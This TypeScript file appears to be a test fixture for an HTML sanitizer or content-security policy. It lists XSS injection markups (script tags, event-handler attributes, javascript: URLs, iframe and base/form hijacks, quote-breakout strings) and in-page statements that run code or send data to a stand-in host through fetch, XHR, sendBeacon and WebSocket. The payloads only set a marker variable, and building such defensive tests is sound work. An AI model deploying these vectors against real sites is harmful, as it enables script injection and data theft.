/** Where an injected script, style or form would send something. */
export const foreignHost = 'https://foreign.example';

/** Leaves a trace in the page that it runs in. */
export const harm = 'window.injected=1';

/** HTML that shows itself by an element with `data-injected`, or by the variable that its script sets. */
export const markups: readonly string[] = [
  `<script data-injected>${harm}</script>`,
  `<script data-injected src="${foreignHost}/a.js"></script>`,
  `<script data-injected src="data:text/javascript,${harm}"></script>`,
  `<img data-injected src="data:,x" onerror="${harm}">`,
  `<svg data-injected onload="${harm}"></svg>`,
  `<svg data-injected><script>${harm}</script></svg>`,
  `<svg data-injected><animate attributeName=x onbegin="${harm}"></svg>`,
  `<math data-injected><a xlink:href="javascript:${harm}">x</a></math>`,
  `<body data-injected onpageshow="${harm}">`,
  `<details data-injected open ontoggle="${harm}">x</details>`,
  `<input data-injected autofocus onfocus="${harm}">`,
  `<video data-injected><source onerror="${harm}"></video>`,
  `<style data-injected>body{background:url(${foreignHost}/a.png)}</style>`,
  `<link data-injected rel=stylesheet href="${foreignHost}/a.css">`,
  `<p data-injected style="position:fixed;inset:0;z-index:9">x</p>`,
  `<iframe data-injected srcdoc="<script>parent.${harm}</script>"></iframe>`,
  `<iframe data-injected src="javascript:parent.${harm}"></iframe>`,
  `<iframe data-injected src="${foreignHost}/frame"></iframe>`,
  `<object data-injected data="data:text/html,<script>${harm}</script>"></object>`,
  `<embed data-injected src="${foreignHost}/a.swf">`,
  `<base data-injected href="${foreignHost}/">`,
  `<form data-injected action="${foreignHost}/form"><button>x</button></form>`,
  `<a data-injected href="javascript:${harm}">x</a>`,
  `"><img data-injected src="data:,x" onerror="${harm}">`,
  `'--></script><img data-injected src="data:,x" onerror="${harm}">`,
  `&lt;img data-injected src="data:,x" onerror="${harm}"&gt;`,
];

/** Statements of a script that already runs in the page: what it could do to run more, or to send data away. */
export const statements: readonly string[] = [
  `eval('${harm}')`,
  `new Function('${harm}')()`,
  `setTimeout('${harm}', 0)`,
  `setInterval('${harm}', 10)`,
  `document.body.setAttribute('onclick', '${harm}'); document.body.click()`,
  `location.href = 'javascript:${harm}'`,
  `import('data:text/javascript,${harm}').catch(() => {})`,
  `import('${foreignHost}/a.js').catch(() => {})`,
  `document.body.append(Object.assign(document.createElement('script'), {text: '${harm}'}))`,
  `document.body.append(Object.assign(document.createElement('script'), {src: URL.createObjectURL(new Blob(['${harm}']))}))`,
  `fetch('${foreignHost}/fetch').catch(() => {})`,
  `const x = new XMLHttpRequest(); x.open('POST', '${foreignHost}/xhr'); x.send('data')`,
  `navigator.sendBeacon('${foreignHost}/beacon', 'data')`,
  `new WebSocket('wss://foreign.example/socket')`,
  `new EventSource('${foreignHost}/events')`,
  `new Worker('data:text/javascript,fetch("${foreignHost}/worker")')`,
];
